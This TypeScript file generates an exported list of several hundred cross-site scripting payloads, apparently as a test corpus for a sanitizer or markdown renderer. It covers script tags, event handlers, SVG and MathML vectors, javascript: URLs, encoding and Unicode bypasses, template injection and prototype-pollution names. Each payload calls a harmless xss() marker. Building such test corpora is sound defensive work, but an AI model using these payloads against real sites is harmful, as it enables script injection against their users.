/** What is written to get a script into somebody's page, by family. Each calls `xss()`, were it run. */

const CALLS = ['xss()', 'xss`1`', 'top.xss()', "window['xss']()"];

const EVENTS = [
	'onerror',
	'onload',
	'onclick',
	'onmouseover',
	'onfocus',
	'ontoggle',
	'onanimationstart',
	'onpointerrawupdate'
];

const TAGS = [
	'<script>$</script>',
	'<SCRIPT SRC="data:text/javascript,$"></SCRIPT>',
	'<scr<script>ipt>$</scr</script>ipt>',
	'<script\n>$</script\t>',
	'<script type=module>$</script>',
	'"><script>$</script>',
	"'><script>$</script>",
	'</textarea><script>$</script>',
	'</title><script>$</script>',
	'</style><script>$</script>',
	'<!--<script>$//--></script>',
	'<iframe srcdoc="<script>parent.$</script>"></iframe>',
	'<iframe src="javascript:parent.$"></iframe>',
	'<object data="javascript:$"></object>',
	'<embed src="javascript:$">',
	'<base href="javascript:$//"><a href="/">x</a>',
	'<meta http-equiv="refresh" content="0;url=javascript:$">',
	'<form action="javascript:$"><input type=submit autofocus></form>',
	'<button formaction="javascript:$">x</button>',
	'<link rel=stylesheet href="data:text/css,*{}" onload="$">',
	'<style>@import "javascript:$";</style>',
	'<style onload="$"></style>',
	'<div style="background:url(javascript:$)">x</div>',
	'<div style="width:expression($)">x</div>',
	'<template><img src=x onerror="$"></template>',
	'<noscript><p title="</noscript><img src=x onerror=$>"></noscript>',
	'<table background="javascript:$"></table>',
	'<marquee onstart="$">x</marquee>',
	'<x contenteditable autofocus onfocus="$">x</x>',
	'<input autofocus onfocus="$">'
];

const MARKS = [
	'<img src=x %="$">',
	'<img src="x"%="$">',
	'<img/src=x/%=$>',
	'<body %="$">',
	'<svg %="$">',
	'<details open %="$"><summary>x</summary></details>',
	'<video src=x %="$"></video>',
	'" %="$" x="',
	"' %='$' x='",
	'` %=`$`'
];

const VECTORS = [
	'<svg><script>$</script></svg>',
	'<svg><script href="data:text/javascript,$"/></svg>',
	'<svg><animate onbegin="$" attributeName=x dur=1s></svg>',
	'<svg><a xlink:href="javascript:$"><text y=20>x</text></a></svg>',
	'<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>$</script></svg>#x"/></svg>',
	'<svg><foreignObject><iframe srcdoc="<script>parent.$</script>"/></foreignObject></svg>',
	'<svg><style><img src=x onerror="$"></style></svg>',
	'<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=$>">',
	'<math href="javascript:$">x</math>',
	'<math><maction actiontype="statusline" xlink:href="javascript:$">x</maction></math>'
];

const ADDRESSES = [
	'javascript:$',
	'JaVaScRiPt:$',
	' javascript:$',
	'java\tscript:$',
	'java&#10;script:$',
	'javascript&colon;$',
	'javascript&#58;$',
	'&#106;avascript:$',
	'&#x6A&#x61vascript:$',
	'javascript://example.org/%0A$',
	'\u0001javascript:$',
	'data:text/html,<script>$</script>',
	'data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==',
	'data:image/svg+xml,<svg onload="$">',
	'vbscript:$',
	'blob:javascript:$',
	'view-source:javascript:$',
	'//javascript:$',
	'https://javascript:$@example.org',
	'https://example.org/"onmouseover="$'
];

/** Where markdown takes an address, or nearly. */
const LINKS = ['[x](@)', '[x](<@>)', '<@>', '![x](@)', '[x]: @\n[x]', '[![x](@)](@)', '[x](@ "t")', '@'];

const MARKDOWN = [
	'**<img src=x onerror=$>**',
	'~~<svg onload=$>~~',
	'||<img src=x onerror=$>||',
	'> <img src=x onerror=$>',
	'- <img src=x onerror=$>',
	'1. <svg/onload=$>',
	'`<img src=x onerror=$>`',
	'```html\n<img src=x onerror=$>\n```',
	'```"><img src=x onerror=$>\nx\n```',
	'```js onload=$\n</code><script>$</script>\n```',
	'# <img src=x onerror=$>',
	'| <img src=x onerror=$> |\n|---|\n| x |',
	'[<img src=x onerror=$>](https://example.org)',
	'[x](https://example.org "\'onmouseover=\'$")',
	'[x](https://example.org"onmouseover="$")',
	'[a](b"onerror="$',
	'**a*b**<svg onload=$>*c*',
	'*'.repeat(200) + '<img src=x onerror=$>',
	'>'.repeat(60) + '<img src=x onerror=$>',
	'['.repeat(100) + 'x' + '](javascript:$)'.repeat(20),
	'https://example.org/<img src=x onerror=$>',
	'https://example.org/?a="><svg onload=$>',
	"https://example.org/#'onclick='$",
	'www.example.org"onmouseover="$',
	'mailto:"onclick="$"@example.org',
	'mailto:a@example.org?body=<script>$</script>',
	'@ana<img src=x onerror=$>',
	'@room"><svg onload=$>',
	':smile:<img src=x onerror=$>',
	':"><svg/onload=$>:',
	':<script>$</script>:',
	'👩‍🚀<img src=x onerror=$>'
];

const ENCODED = [
	'&lt;script&gt;$&lt;/script&gt;',
	'&#60;script&#62;$&#60;/script&#62;',
	'&amp;lt;script&amp;gt;$',
	'%3Cscript%3E$%3C/script%3E',
	'\\u003cscript\\u003e$\\u003c/script\\u003e',
	'\\x3cimg src=x onerror=$\\x3e',
	'＜script＞$＜/script＞',
	'<\u200bscript>$</script>',
	'<\u202escript>$</script>',
	'\u202e<img src=x onerror=$>\u202c',
	'\u2066<svg onload=$>\u2069',
	'\ufeff<script>$</script>',
	'<img\u00a0src=x\u00a0onerror=$>',
	'<img src=x\u2028onerror=$>',
	'<a href="\u200djavascript:$">x</a>',
	'+ADw-script+AD4-$+ADw-/script+AD4-',
	'ˋ<ſcript>$</ſcript>',
	'<İmg src=x onerror=$>'
];

const TEMPLATES = [
	'{{$}}',
	"{{constructor.constructor('$')()}}",
	'${$}',
	'{$}',
	'{@html "<img src=x onerror=$>"}',
	'{#if $}{/if}',
	'<%= $ %>',
	'#{$}',
	'[[$]]',
	'{{= $ }}',
	'$$' + '{$}',
	'%s%n{0}$',
	'<slot name="$">',
	'</script><script>$</script>',
	'"};$;//',
	"';$;//",
	'*/$/*',
	'-->$<!--'
];

const NAMES = [
	'__proto__',
	'constructor',
	'prototype',
	'toString',
	'hasOwnProperty',
	'valueOf',
	'__defineGetter__',
	'null',
	'undefined',
	'NaN',
	'then',
	'length'
];

/** 500 different texts at least. */
export const ATTACKS: string[] = [
	...new Set(
		[
			...each(TAGS, CALLS),
			...EVENTS.flatMap((event) =>
				MARKS.map((mark) => mark.replaceAll('%', event).replaceAll('$', 'xss()'))
			),
			...each(VECTORS, CALLS.slice(0, 2)),
			...ADDRESSES.flatMap((address) =>
				LINKS.map((link) => link.replaceAll('@', address).replaceAll('$', 'xss()'))
			),
			...each(MARKDOWN, CALLS.slice(0, 2)),
			...each(ENCODED, CALLS.slice(0, 2)),
			...each(TEMPLATES, CALLS.slice(0, 2)),
			...NAMES
		].filter((text) => text.trim() === text || text.length < 200)
	)
];

function each(texts: string[], calls: string[]) {
	return texts.flatMap((text) => calls.map((call) => text.split('$').join(call)));
}
